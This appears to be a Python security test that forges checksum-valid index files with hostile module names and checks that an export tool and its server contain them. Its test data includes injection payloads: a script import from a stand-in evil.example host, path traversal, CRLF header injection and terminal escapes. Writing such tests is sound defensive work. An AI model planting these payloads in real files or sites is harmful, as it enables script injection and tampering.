#!/usr/bin/env python3
"""An index file with correct checksums and evil names: what is served and exported from it stays within its
bounds. The checksums are made here, from the specification of XXH64. Exit 1 when a check fails."""
import os
import re
import struct
import subprocess
import sys

from server import PINCITE, SKIPPED, Server, build, scratch

P = [0x9E3779B185EBCA87, 0xC2B2AE3D27D4EB4F, 0x165667B19E3779F9, 0x85EBCA77C2B2AE63, 0x27D4EB2F165667C5]
M = (1 << 64) - 1
PLACE = b"m" * 44  # a slug that is replaced by one of the same length
failed = 0


def xxh64(data):
    def rotl(x, r):
        return (x << r | x >> (64 - r)) & M

    def lane(acc, x):
        return rotl((acc + x * P[1]) & M, 31) * P[0] & M

    at = 0
    if len(data) >= 32:
        acc = [(P[0] + P[1]) & M, P[1], 0, (-P[0]) & M]
        while at + 32 <= len(data):
            for i, x in enumerate(struct.unpack_from("<4Q", data, at)):
                acc[i] = lane(acc[i], x)
            at += 32
        h = sum(rotl(a, r) for a, r in zip(acc, (1, 7, 12, 18))) & M
        for a in acc:
            h = ((h ^ lane(0, a)) * P[0] + P[3]) & M
    else:
        h = P[4]
    h = (h + len(data)) & M
    while at + 8 <= len(data):
        h = (rotl(h ^ lane(0, struct.unpack_from("<Q", data, at)[0]), 27) * P[0] + P[3]) & M
        at += 8
    if at + 4 <= len(data):
        h = (rotl(h ^ struct.unpack_from("<I", data, at)[0] * P[0] & M, 23) * P[1] + P[2]) & M
        at += 4
    for byte in data[at:]:
        h = rotl(h ^ byte * P[4] & M, 11) * P[0] & M
    h = (h ^ h >> 33) * P[1] & M
    h = (h ^ h >> 29) * P[2] & M
    return h ^ h >> 32


def with_slug(path, out, slug):
    """A copy of the index whose module is called `slug`, every checksum made anew."""
    data = bytearray(open(path, "rb").read())
    sections, = struct.unpack_from("<I", data, 48)
    changed = 0
    for row in range(64, 64 + 32 * sections, 32):
        offset, length = struct.unpack_from("<QQ", data, row + 8)
        part = bytes(data[offset:offset + length])
        if struct.pack("B", len(PLACE)) + PLACE in part:
            part = part.replace(PLACE, slug)
            data[offset:offset + length] = part
            struct.pack_into("<Q", data, row + 24, xxh64(part))
            changed += 1
    head = 64 + 32 * sections
    struct.pack_into("<Q", data, 24, 0)
    struct.pack_into("<Q", data, 24, xxh64(bytes(data[:head])))
    with open(out, "wb") as file:
        file.write(data)
    return changed


def check(what, good, detail=""):
    global failed
    failed += not good
    print(("ok    " if good else "FAIL  ") + what + (f": {detail}" if detail and not good else ""), flush=True)


def export(index, folder):
    return subprocess.run([PINCITE, "export", index, folder, "--offline"], capture_output=True, text=True)


def escape(slug):
    return "".join(f"%{byte:02x}" for byte in slug)


def main():
    if not os.path.exists(PINCITE):
        print(f"skipped: no program at {PINCITE}")
        return SKIPPED
    assert xxh64(b"") == 0xEF46DB3751D8E999 and xxh64(b"abc") == 0x44BC2CF5AD770999  # known answers of xxHash
    with scratch() as folder:
        corpus = os.path.join(folder, "c.jsonl")
        with open(corpus, "w", encoding="utf-8") as file:
            file.write('{"id":"one","module":"%s","question":"Is it one?","answer":"Yes."}\n' % PLACE.decode())
        good = build(corpus, os.path.join(folder, "good.pin"))
        for name, evil in {"a script in a script": b'"]};importScripts("//evil.example/x.js");//',
                           "lines of a list": b"x\nCNAME\n.git\nmine\n", "another host": b"/evil.example/",
                           "a header": b"x>; rel=\"stylesheet\", </y", "a header line": b"x\r\nX-Evil: 1\r\n\r\n<b>",
                           "upwards": b"../../../../../../etc/evil", "a terminal": b"\x1b]0;owned\x07\x1b[2J"}.items():
            slug = evil + b"z" * (len(PLACE) - len(evil))
            bad, site = os.path.join(folder, "bad.pin"), os.path.join(folder, "site")
            check(f"{name}: the file was changed", with_slug(good, bad, slug) > 0)
            subprocess.run(["rm", "-rf", site], check=True)
            first = export(bad, site)
            if first.returncode == 0:
                for mine in ("CNAME", "mine"):
                    open(os.path.join(site, mine), "w").close()
                os.makedirs(os.path.join(site, ".git"))
                export(bad, site)
                worker = open(os.path.join(site, "offline.js"), encoding="utf-8").read()
                check(f"{name}: the service worker holds only its own script", "evil.example" not in worker)
                check(f"{name}: files of others stay", all(os.path.exists(os.path.join(site, n)) for n in ("CNAME", "mine", ".git")),
                      os.listdir(site))
            check(f"{name}: the export says nothing to the terminal", "\x1b" not in first.stdout + first.stderr)
            check(f"{name}: nothing is written elsewhere", sorted(n for n in os.listdir(folder)) ==
                  sorted(["c.jsonl", "good.pin", "bad.pin"] + (["site"] if os.path.exists(site) else [])), os.listdir(folder))
            try:
                s = Server(bad)
            except RuntimeError:
                print(f"ok    {name}: refused by the server")
                continue
            for path in ["/", "/items/", f"/{escape(slug)}/", f"/{escape(slug)}", f"/{escape(slug)}/one/", "/llms.txt", "/sitemap.xml"]:
                status, headers, body = s.get(path)
                link, location = headers.get("link", ""), headers.get("location", "")
                check(f"{name}: {path[:20]} has no header of the file's making", "x-evil" not in headers and
                      re.fullmatch(r"(</[\w%.~@:/-]*>; rel=\"alternate\"; type=\"text/markdown\")?", link) and
                      re.fullmatch(r"(/([\w%.~@:-][\w%.~@:/-]*)?)?", location) and status < 500, f"{status} {link} {location}")
            check(f"{name}: the server ends with 0", s.stop() == 0)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
